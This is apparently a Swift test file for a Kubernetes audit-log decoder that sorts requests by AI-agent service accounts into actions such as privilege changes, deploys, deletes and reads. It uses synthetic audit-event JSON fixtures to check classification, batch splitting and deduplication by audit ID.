    @Test("approving a certificate signing request issues a credential: a permission change, not a deploy")
    func certificateApproval() throws {
        func line(_ verb: String, _ subresource: String?) -> String {
            let sub = subresource.map { #","subresource":"\#($0)""# } ?? ""
            return #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"c1-\#(verb)-\#(subresource ?? "none")","stage":"ResponseComplete","requestURI":"/apis/certificates.k8s.io/v1/certificatesigningrequests/agent-csr/approval","verb":"\#(verb)","user":{"username":"system:serviceaccount:agents:claude-runner"},"objectRef":{"resource":"certificatesigningrequests","name":"agent-csr","apiGroup":"certificates.k8s.io"\#(sub)},"responseStatus":{"code":200},"requestReceivedTimestamp":"2026-11-04T09:00:06.000000Z"}"#
        }
        let approve = try #require(TestSupport.decode([line("update", "approval")]).first?.events.first)
        #expect(ActionClasses(rawValue: approve.classes).contains(.privilege))
        #expect(!ActionClasses(rawValue: approve.classes).contains(.deploy))
        let status = try #require(TestSupport.decode([line("update", "status")]).first?.events.first)
        #expect(!ActionClasses(rawValue: status.classes).contains(.privilege))
    }

    @Test("a list or watch of one object names it by its field selector")
    func fieldSelectorName() {
        #expect(K8sAuditDecoder.selectedName("/api/v1/namespaces/ci/secrets?fieldSelector=metadata.name%3Ddb&watch=true") == "db")
        #expect(K8sAuditDecoder.selectedName("/api/v1/namespaces/ci/pods?fieldSelector=metadata.name=tmp&resourceVersion=0") == "tmp")
        #expect(K8sAuditDecoder.selectedName("/api/v1/pods?fieldSelector=spec.nodeName%3Dnode-1") == nil)
        #expect(K8sAuditDecoder.selectedName("/api/v1/pods?fieldSelector=metadata.name%3Da%2Cstatus.phase%3DRunning") == nil)
        #expect(K8sAuditDecoder.selectedName("/api/v1/namespaces/ci/secrets") == nil)
    }

    @Test("access and token reviews (kubectl auth can-i, whoami) are questions, not deploys, in any namespace")
    func reviews() {
        for (resource, namespace) in [("localsubjectaccessreviews", "prod"), ("selfsubjectaccessreviews", nil), ("tokenreviews", nil),
                                      ("selfsubjectrulesreviews", nil), ("subjectaccessreviews", nil)] {
            let uri = "/apis/authorization.k8s.io/v1/" + (namespace.map { "namespaces/\($0)/" } ?? "") + resource
            let line = #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"r-1","stage":"ResponseComplete","requestURI":"\#(uri)","verb":"create","user":{"username":"system:serviceaccount:agents:claude-runner"},"objectRef":{"resource":"\#(resource)",\#(namespace.map { #""namespace":"\#($0)","# } ?? "")"apiGroup":"authorization.k8s.io","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"requestReceivedTimestamp":"2026-10-27T09:10:00.000000Z"}"#
            let event = TestSupport.decode([line])[0].events[0]
            let classes = ActionClasses(rawValue: event.classes)
            #expect(classes == .read, "\(resource): \(classes.names)")
            #expect(event.production == nil, "\(resource)")
        }
    }

    @Test("deploys in production namespaces; RequestReceived is kept as the request")
    func deploys() {
        #expect(event(11).kind == .permissionRequest)
        let patch = event(12)
        #expect(ActionClasses(rawValue: patch.classes).contains(.deploy))
        #expect(patch.production != nil)
        #expect(patch.callID == event(11).callID)
    }

    @Test("EventList batches become one event per item")
    func eventList() {
        #expect(decoded[13].events.count == 3)
        #expect(ActionClasses(rawValue: event(14, 0).classes).contains(.delete))
        #expect(event(14, 1).targets?.contains("\"kind\":\"namespace\",\"value\":\"*\"") == true, "watch across all namespaces")
        // Items that are no Event object: flagged beside readable ones, the line rejected when none is readable.
        let item = #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"el-1","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/ci/pods","verb":"list","user":{"username":"system:serviceaccount:ci:agent-runner"},"objectRef":{"resource":"pods","namespace":"ci"},"responseStatus":{"code":200},"requestReceivedTimestamp":"2026-11-15T08:00:00.000000Z"}"#
        let mixed = TestSupport.decode([#"{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[\#(item),42,"str"]}"#])[0]
        #expect(mixed.events.count == 1 && mixed.events[0].flags.contains(.invalidField))
        let junk = TestSupport.decode([#"{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[42,"x",null]}"#])[0]
        #expect(junk.events.isEmpty && junk.rejection?.detail.contains("no item of the EventList") == true)
    }

    @Test("requests that share an audit ID (a client may choose it) are different events and different actions; one request's copies are one")
    func reusedAuditID() {
        func line(_ verb: String, _ uri: String, _ resource: String, _ user: String = "system:serviceaccount:agents:codex-runner",
                  id: String? = "11111111-2222-4333-8444-555555555555", at second: Int = 5) -> String {
            let audit = id.map { #""auditID":"\#($0)","# } ?? ""
            return #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata",\#(audit)"stage":"ResponseComplete","requestURI":"\#(uri)","verb":"\#(verb)","user":{"username":"\#(user)"},"objectRef":{"resource":"\#(resource)","namespace":"payments-prod","name":"ledger"},"responseStatus":{"metadata":{},"code":200},"requestReceivedTimestamp":"2026-11-15T08:0\#(second):00.000000Z","stageTimestamp":"2026-11-15T08:0\#(second):00.100000Z"}"#
        }
        let events = TestSupport.decode([
            line("get", "/api/v1/namespaces/payments-prod/configmaps/ledger", "configmaps"),
            line("delete", "/apis/apps/v1/namespaces/payments-prod/deployments/ledger", "deployments"),
            line("delete", "/apis/apps/v1/namespaces/payments-prod/deployments/ledger", "deployments", at: 6),
            line("delete", "/apis/apps/v1/namespaces/payments-prod/deployments/ledger", "deployments", id: nil, at: 7),
            line("delete", "/apis/apps/v1/namespaces/payments-prod/deployments/ledger", "deployments", id: nil, at: 8),
        ]).flatMap(\.events)
        #expect(events.count == 5)
        #expect(events[0].contentKey != events[1].contentKey && events[0].callID != events[1].callID)
        #expect(events[1].contentKey == events[2].contentKey && events[1].callID == events[2].callID,
                "the same request and stage with the same ID: a copy")
        #expect(events[3].contentKey != events[4].contentKey, "without an audit ID, requests at different times are different")
        #expect(events[3].callID == nil)
    }

    @Test("the same auditID and stage has the same content key (deduplicated in the store)")
    func dedupe() {
        #expect(event(15).contentKey == event(1).contentKey)
        #expect(event(2).contentKey != event(1).contentKey, "another stage is another record")
        #expect(event(15).session == event(1).session)
    }
}
